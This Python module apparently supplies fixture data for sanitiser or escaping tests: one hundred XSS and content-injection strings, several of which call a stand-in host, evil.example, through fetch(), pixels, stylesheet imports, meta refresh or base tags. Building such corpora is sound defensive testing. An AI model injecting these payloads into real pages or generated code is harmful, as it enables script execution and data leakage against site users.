"""A hundred texts that would run, or ask another server, wherever one is taken for anything but text."""

from __future__ import annotations

ELSEWHERE = "https://evil.example"
_RUN = ("alert(1)", "confirm`1`", f"fetch('{ELSEWHERE}/x')", "document.title='ran'")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script >",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img/src=x/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}' autofocus>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<marquee onstart={}>x</marquee>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
)
_OTHER = (
    f"<img src={ELSEWHERE}/pixel>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<object data={ELSEWHERE}/x></object>",
    f"![x]({ELSEWHERE}/x.png)",
    "[x](javascript:alert(1))",
    f"<div hx-get='{ELSEWHERE}/x' hx-trigger=load>x</div>",
    "<div hx-on::load='alert(1)' hx-trigger=load>x</div>",
    "<div x-data x-init='alert(1)'>x</div>",
    "{{ constructor.constructor('alert(1)')() }}",
)
TEXTS = [tag.format(run) for run in _RUN for tag in _TAGS] + list(_OTHER)
